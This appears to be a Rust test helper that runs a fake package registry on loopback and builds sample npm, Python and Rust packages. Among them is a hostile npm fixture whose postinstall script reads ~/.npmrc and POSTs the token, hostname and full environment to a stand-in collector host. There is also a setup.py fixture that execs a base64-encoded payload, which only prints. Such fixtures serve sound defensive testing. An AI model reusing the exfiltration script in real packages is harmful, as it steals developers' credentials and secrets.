//! A fake registry on loopback for the tests, and the packages it
//! serves, built in memory. Nothing here reaches another host.

#![allow(dead_code)]

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;

/// One canned answer.
#[derive(Clone, Debug)]
pub struct Reply {
    /// The HTTP status.
    pub status: u16,
    /// The body.
    pub body: Vec<u8>,
    /// The `Content-Type` header, when the reply has one.
    pub content_type: Option<&'static str>,
}

impl Reply {
    /// A 200 with `body`.
    pub fn ok(body: impl Into<Vec<u8>>) -> Reply {
        Reply { status: 200, body: body.into(), content_type: None }
    }

    /// An empty answer with `status`.
    pub fn status(status: u16) -> Reply {
        Reply { status, body: Vec::new(), content_type: None }
    }

    /// This reply with a `Content-Type` header, which some clients
    /// (pip) need.
    pub fn typed(mut self, content_type: &'static str) -> Reply {
        self.content_type = Some(content_type);
        self
    }
}

type Routes = HashMap<String, Vec<Reply>>;

/// A registry on 127.0.0.1 that answers each path with its replies in
/// turn (the last one again once they run out) and 404 elsewhere.
pub struct FakeRegistry {
    /// `http://127.0.0.1:PORT`.
    pub base: String,
    routes: Arc<Mutex<Routes>>,
    requests: Arc<Mutex<Vec<(String, String)>>>,
}

impl FakeRegistry {
    /// Starts a registry; its thread lives as long as the test process.
    pub fn start() -> FakeRegistry {
        let listener =
            TcpListener::bind("127.0.0.1:0").expect("bind loopback");
        let base =
            format!("http://{}", listener.local_addr().expect("address"));
        let routes = Arc::new(Mutex::new(Routes::new()));
        let requests = Arc::new(Mutex::new(Vec::new()));
        let (r, q) = (Arc::clone(&routes), Arc::clone(&requests));
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (r, q) = (Arc::clone(&r), Arc::clone(&q));
                std::thread::spawn(move || serve(stream, &r, &q));
            }
        });
        FakeRegistry { base, routes, requests }
    }

    /// Answers `path` with `replies`, in turn.
    pub fn route(&self, path: &str, replies: Vec<Reply>) {
        self.routes.lock().unwrap().insert(path.to_string(), replies);
    }

    /// The absolute URL of `path`.
    pub fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }

    /// The requests so far: path and `Accept` header.
    pub fn requests(&self) -> Vec<(String, String)> {
        self.requests.lock().unwrap().clone()
    }
}

fn serve(
    stream: TcpStream,
    routes: &Mutex<Routes>,
    requests: &Mutex<Vec<(String, String)>>,
) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let mut reader = BufReader::new(&stream);
    let mut first = String::new();
    if reader.read_line(&mut first).is_err() {
        return;
    }
    let path = first.split_whitespace().nth(1).unwrap_or("/").to_string();
    let mut accept = String::new();
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0
            || line.trim().is_empty()
        {
            break;
        }
        if let Some((name, value)) = line.split_once(':')
            && name.eq_ignore_ascii_case("accept")
        {
            accept = value.trim().to_string();
        }
    }
    requests.lock().unwrap().push((path.clone(), accept));

    let reply = {
        let mut routes = routes.lock().unwrap();
        match routes.get_mut(&path) {
            Some(replies) if replies.len() > 1 => replies.remove(0),
            Some(replies) => replies[0].clone(),
            None => Reply::status(404),
        }
    };
    let content_type = reply
        .content_type
        .map(|t| format!("Content-Type: {t}\r\n"))
        .unwrap_or_default();
    let head = format!(
        "HTTP/1.1 {} X\r\n{content_type}Content-Length: {}\r\n\
         Connection: close\r\n\r\n",
        reply.status,
        reply.body.len()
    );
    let mut stream = &stream;
    let _ = stream.write_all(head.as_bytes());
    let _ = stream.write_all(&reply.body);
}

/// A listener that accepts connections and never answers, for timeout
/// tests; each connection is held for at most 10 seconds.
pub fn silent_server() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
    let base = format!("http://{}", listener.local_addr().expect("address"));
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                std::thread::sleep(Duration::from_secs(10));
                drop(stream);
            });
        }
    });
    base
}

/// A gzipped tar of `files` (path, contents).
pub fn tar_gz(files: &[(&str, &str)]) -> Vec<u8> {
    let mut builder =
        tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for (path, data) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, path, data.as_bytes())
            .expect("tar entry");
    }
    builder.into_inner().and_then(|gz| gz.finish()).expect("tar.gz")
}

/// A zip (a wheel) of `files`.
pub fn zip(files: &[(&str, &str)]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (path, data) in files {
        writer
            .start_file(*path, zip::write::SimpleFileOptions::default())
            .expect("zip entry");
        writer.write_all(data.as_bytes()).expect("zip data");
    }
    writer.finish().expect("zip").into_inner()
}

/// An honest npm package.
pub fn npm_honest(name: &str, version: &str) -> Vec<u8> {
    let manifest = format!(
        r#"{{"name": "{name}", "version": "{version}", "main": "index.js"}}"#
    );
    tar_gz(&[
        ("package/package.json", &manifest),
        (
            "package/index.js",
            "module.exports = (s, n) => String(s).padStart(n);\n",
        ),
    ])
}

/// An npm package whose postinstall script sends `~/.npmrc` away.
pub fn npm_hostile(name: &str, version: &str) -> Vec<u8> {
    let manifest = format!(
        r#"{{"name": "{name}", "version": "{version}", "main": "index.js",
  "scripts": {{"postinstall": "node scripts/setup.js"}}}}"#
    );
    tar_gz(&[
        ("package/package.json", &manifest),
        ("package/index.js", "module.exports = 1;\n"),
        ("package/scripts/setup.js", HOSTILE_JS),
    ])
}

const HOSTILE_JS: &str = r#"const fs = require("fs");
const os = require("os");
const https = require("https");

const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
const body = JSON.stringify({ host: os.hostname(), env: process.env, token });
const req = https.request("https://collector.example.invalid/upload", {
  method: "POST",
});
req.write(body);
req.end();
"#;

/// A Python sdist; `hostile` adds an `exec` of a base64 payload (which
/// only prints) to its setup.py.
pub fn sdist(name: &str, version: &str, hostile: bool) -> Vec<u8> {
    let payload = if hostile {
        "import base64\nexec(base64.b64decode(\"cHJpbnQoImhlbGxvIik=\"))\n"
    } else {
        ""
    };
    let setup = format!(
        "{payload}from setuptools import setup\n\nsetup(name=\"{name}\", version=\"{version}\")\n"
    );
    let pkg_info =
        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
    let root = format!("{name}-{version}");
    tar_gz(&[
        (&format!("{root}/PKG-INFO"), &pkg_info),
        (&format!("{root}/setup.py"), &setup),
        (&format!("{root}/{name}/__init__.py"), "VALUE = 1\n"),
    ])
}

/// A `.crate`.
pub fn crate_file(name: &str, version: &str) -> Vec<u8> {
    let manifest =
        format!("[package]\nname = \"{name}\"\nversion = \"{version}\"\n");
    let root = format!("{name}-{version}");
    tar_gz(&[
        (&format!("{root}/Cargo.toml"), &manifest),
        (&format!("{root}/src/lib.rs"), "pub fn f() {}\n"),
    ])
}
